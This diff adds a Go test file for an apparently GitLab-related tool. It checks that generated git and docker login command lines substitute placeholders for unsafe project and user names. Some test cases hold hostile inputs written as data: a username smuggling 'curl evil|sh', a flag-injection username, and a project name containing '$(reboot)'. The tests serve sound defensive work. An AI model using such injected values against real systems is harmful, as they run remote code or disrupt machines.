@@ -1,0 +1,46 @@
+package gitlab_test
+
+import (
+	"strings"
+	"testing"
+
+	"glpat/gitlab"
+)
+
+func TestTheLineOfAPurposeIsFilledInForTheShell(t *testing.T) {
+	own := gitlab.Instance{URL: "https://gitlab.example.com:8443/git"}
+	for _, test := range []struct {
+		name     string
+		purpose  string
+		instance gitlab.Instance
+		target   gitlab.ProofTarget
+		want     string
+	}{
+		{"nothing is known of the project", "clone", own, gitlab.ProofTarget{}, "git ls-remote https://gitlab.example.com:8443/git/GROUP/PROJECT.git HEAD"},
+		{"a project", "clone", own, gitlab.ProofTarget{Project: "team/sub/app"}, "git ls-remote https://gitlab.example.com:8443/git/team/sub/app.git HEAD"},
+		{"a project in an address of the API", "install-packages", own, gitlab.ProofTarget{Project: "team/app"}, "/api/v4/projects/team%2Fapp/packages"},
+		{"the registry of GitLab.com", "pull-images", gitlab.Instance{URL: "https://gitlab.com"}, gitlab.ProofTarget{Username: "pat"}, "docker login registry.gitlab.com -u pat --password-stdin"},
+		{"a registry that nobody named", "pull-images", own, gitlab.ProofTarget{Username: "pat"}, "docker login REGISTRY -u pat"},
+		{"a user name that would be a command", "pull-images", own, gitlab.ProofTarget{Username: "x;curl evil|sh"}, "-u USER --password-stdin"},
+		{"a user name that would be a flag", "pull-images", own, gitlab.ProofTarget{Username: "--config=/tmp/x"}, "-u USER --password-stdin"},
+		{"a project that would be a command", "clone", own, gitlab.ProofTarget{Project: "a/$(reboot)"}, "/git/GROUP/PROJECT.git HEAD"},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			purpose, err := gitlab.FindPurpose(test.purpose)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := purpose.LineFor(test.instance, test.target); !strings.Contains(got, test.want) {
+				t.Errorf("the line is %s, want %s in it", got, test.want)
+			}
+		})
+	}
+}
+
+func TestNoLineIsLeftWithAPlaceToFillIn(t *testing.T) {
+	for _, purpose := range gitlab.AllPurposes() {
+		if line := purpose.LineFor(gitlab.Instance{URL: "https://gitlab.com"}, gitlab.ProofTarget{}); strings.ContainsAny(line, "{}") {
+			t.Errorf("%s: %s", purpose.Name, line)
+		}
+	}
+}
